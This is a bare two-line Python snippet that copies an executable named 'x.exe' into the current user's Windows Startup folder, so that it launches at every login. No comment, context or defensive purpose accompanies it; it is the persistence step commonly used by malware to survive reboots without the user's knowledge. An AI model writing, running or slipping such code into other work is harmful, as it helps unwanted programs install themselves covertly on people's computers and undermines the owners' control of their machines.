import os, shutil
shutil.copy("x.exe", os.getenv("APPDATA") + r"\Microsoft\Windows\Start Menu\Programs\Startup\x.exe")
